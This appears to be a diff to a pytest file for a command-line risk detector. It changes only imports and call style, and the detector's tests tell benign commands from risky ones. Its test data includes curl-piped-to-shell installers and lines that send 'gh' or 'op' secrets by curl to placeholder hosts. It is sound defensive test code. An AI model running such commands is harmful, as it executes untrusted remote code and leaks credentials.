@@ -2,13 +2,7 @@
 
 import pytest
 
-from pipeguard.detect.checks.benign_commands import (
-    CHECKS,
-    has_usual_index,
-    is_installer,
-    is_login,
-    shows_names,
-)
+from pipeguard.detect.checks import benign_commands
 from pipeguard.detect.checks.outcome import Outcome
 
 
@@ -22,14 +16,16 @@ from pipeguard.detect.checks.outcome import Outcome
     ],
 )
 def test_what_is_made_to_be_thrown_away_is_known(line: bytes, outcome: Outcome) -> None:
-    assert CHECKS["not-disposable"](line) is outcome
+    assert benign_commands.CHECKS["not-disposable"](line) is outcome
 
 
 def test_an_installer_is_one_only_where_all_that_is_fetched_is() -> None:
-    assert is_installer(b"curl -fsSL https://sh.rustup.rs | sh")
-    assert not is_installer(b"curl https://sh.rustup.rs https://x.example/a | sh")
-    assert not is_installer(b"curl https://raw.githubusercontent.com/someone/install/a.sh | sh")
-    assert not is_installer(b"sh a.sh")
+    assert benign_commands.is_installer(b"curl -fsSL https://sh.rustup.rs | sh")
+    assert not benign_commands.is_installer(b"curl https://sh.rustup.rs https://x.example/a | sh")
+    assert not benign_commands.is_installer(
+        b"curl https://raw.githubusercontent.com/someone/install/a.sh | sh"
+    )
+    assert not benign_commands.is_installer(b"sh a.sh")
 
 
 @pytest.mark.parametrize(
@@ -48,14 +44,16 @@ def test_output_that_logs_in_is_told_from_output_that_is_sent(
     expected: bool,
 ) -> None:
     lines = b"\n$ gh auth token\n$ curl " + before + b"$(gh\x1fauth\x1ftoken) https://a.example\n"
-    assert is_login(b"\n$ gh auth token", lines) is expected
+    assert benign_commands.is_login(b"\n$ gh auth token", lines) is expected
 
 
 def test_every_use_of_the_output_counts() -> None:
     lines = b"$ curl -H Authorization:\x1fBearer\x1f$(op\x1fread\x1fx) https://a.example\n"
-    assert is_login(b"$ op read", lines)
-    assert not is_login(b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n")
-    assert not is_login(b"$ op read", b"$ op read x\n")
+    assert benign_commands.is_login(b"$ op read", lines)
+    assert not benign_commands.is_login(
+        b"$ op read", lines + b"$ curl -d $(op\x1fread\x1fx) https://b.example\n"
+    )
+    assert not benign_commands.is_login(b"$ op read", b"$ op read x\n")
 
 
 SHOWS = (b"$ printenv T", b"$ cat", b"< ENV", b"CODE os.environ['T']", b"$ echo $(op\x1fread\x1fx)")
@@ -64,8 +62,8 @@ SHOWS = (b"$ printenv T", b"$ cat", b"< ENV", b"CODE os.environ['T']", b"$ echo 
 @pytest.mark.parametrize("line", SHOWS)
 def test_a_variable_that_is_set_is_told_from_one_that_is_shown(line: bytes) -> None:
     lines = b"\n$ op read x\n= T=$(op\x1fread\x1fx)\n%b\n"
-    assert is_login(b"\n$ op read", lines % b"$ deploy.sh")
-    assert not is_login(b"\n$ op read", lines % line)
+    assert benign_commands.is_login(b"\n$ op read", lines % b"$ deploy.sh")
+    assert not benign_commands.is_login(b"\n$ op read", lines % line)
 
 
 @pytest.mark.parametrize(
@@ -86,7 +84,7 @@ def test_a_variable_that_is_set_is_told_from_one_that_is_shown(line: bytes) -> N
 def test_names_are_told_from_values_also_if_they_lead_to_these(
     lines: bytes, *, expected: bool
 ) -> None:
-    assert shows_names(b"\n$ kubectl get secret", b"\n" + lines) is expected
+    assert benign_commands.shows_names(b"\n$ kubectl get secret", b"\n" + lines) is expected
 
 
 @pytest.mark.parametrize(
@@ -108,6 +106,6 @@ def test_names_are_told_from_values_also_if_they_lead_to_these(
 def test_the_index_that_is_used_anyway_is_told_from_others(words: bytes, *, expected: bool) -> None:
     words = words.replace(b"@org", b".org")
     line = b"$ " + words + b"\n"
-    assert has_usual_index(b"\n$ " + words[:8], b"\n" + line) is expected
+    assert benign_commands.has_usual_index(b"\n$ " + words[:8], b"\n" + line) is expected
     other = b"$ " + words[:8] + b" --registry https://x.example\n"
-    assert not has_usual_index(b"\n$ " + words[:8], b"\n" + line + other + b"\n")
+    assert not benign_commands.has_usual_index(b"\n$ " + words[:8], b"\n" + line + other + b"\n")
